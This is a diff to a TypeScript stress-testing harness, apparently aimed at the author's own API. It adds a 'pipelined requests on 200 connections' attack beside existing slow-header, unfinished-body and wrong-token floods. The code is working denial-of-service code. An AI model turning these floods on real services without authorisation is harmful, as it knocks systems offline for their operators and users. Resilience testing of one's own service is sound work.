@@ -98,6 +98,26 @@ const trickle = async (connections: number, first: string | Buffer): Promise<voi
   await Promise.all(Array.from({ length: connections }, one));
 };
 
+/** So many connections, each of which sends all of its requests in one piece, again and again. */
+const pipeline = async (connections: number, requests: Buffer): Promise<void> => {
+  const { host, port } = target;
+  const one = async (): Promise<void> => {
+    const socket = connect({ host, port });
+    socket.once('error', (error: NodeJS.ErrnoException) => count(error.code ?? error.message));
+    socket.resume();
+    while (!isOver() && !socket.destroyed) {
+      socket.write(requests);
+      await wait(100);
+    }
+    count('closed');
+    socket.destroy();
+  };
+  const client = async (): Promise<void> => {
+    while (!isOver()) await one();
+  };
+  await Promise.all(Array.from({ length: connections }, client));
+};
+
 const MIB = 1024 * 1024;
 
 const jsonOf = (bytes: number): Buffer =>
@@ -173,6 +193,8 @@ const attacks: Readonly<Record<string, () => Promise<void>>> = {
     trickle(300, `GET /api/v2/ping HTTP/1.1\r\nHost: ${target.host}\r\nX-Slow: `),
   'unfinished bodies on 300 connections': () =>
     trickle(300, Buffer.from(headOf('/api/v2/organizations', owner, 250_000) + ' '.repeat(200_000))),
+  'pipelined requests on 200 connections': () =>
+    pipeline(200, Buffer.from(`GET /api/v2/ping HTTP/1.1\r\nHost: ${target.host}\r\n\r\n`.repeat(300))),
   'wrong tokens': () =>
     flood(16, () => ({ method: 'GET', path: '/api/v2/account/details', token: randomBytes(24).toString('hex') })),
   'one token without a pause': () =>
